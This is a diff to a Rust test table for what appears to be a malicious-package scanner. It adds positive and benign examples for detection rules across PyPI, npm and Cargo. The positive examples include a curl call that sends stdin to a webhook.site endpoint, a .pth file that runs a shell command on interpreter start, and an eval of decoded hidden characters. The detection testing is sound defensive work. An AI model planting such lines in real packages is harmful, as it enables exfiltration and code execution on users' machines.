@@ -69,6 +69,13 @@ const EXAMPLES: &[Example] = &[
     ),
     (
         "webhook-endpoint",
+        &PYPI,
+        "hooks.py",
+        "os.system('curl https://webhook.site/00000000-1111-2222-3333-444444444444 -d @-')",
+        "Hook(\n    url=\"https://webhook.site/00000000-1111-2222-3333-444444444444\",\n)",
+    ),
+    (
+        "webhook-endpoint",
         &NPM,
         "index.js",
         "lookup(name + '.c58bduhe008dovpvhvug0000000000000.oast.fun')",
@@ -221,6 +228,13 @@ const EXAMPLES: &[Example] = &[
         "import os; exec('import coverage; coverage.process_startup()')",
     ),
     (
+        "pth-loader",
+        &PYPI,
+        "a_init.pth",
+        "import os, sys; exec('from subprocess import run; run([\"sh\", \"-c\", x])')",
+        "import os, sys; exec('sys.stderr.write(\"failed to setup subprocess coverage\")')",
+    ),
+    (
         "build-script-sends",
         &CARGO,
         "build.rs",
@@ -246,7 +260,7 @@ const EXAMPLES: &[Example] = &[
         &NPM,
         "a.js",
         "c >= 0xFE00 ? c - 0xFE00 : c - 0xE0100; eval(decoded)",
-        "c >= 0xFE00 ? c - 0xFE00 : c - 0xE0100",
+        "c >= 0xFE00 ? c - 0xFE00 : c - 0xE0100; x = function (a) { return word.exec(a) }",
     ),
 ];
 
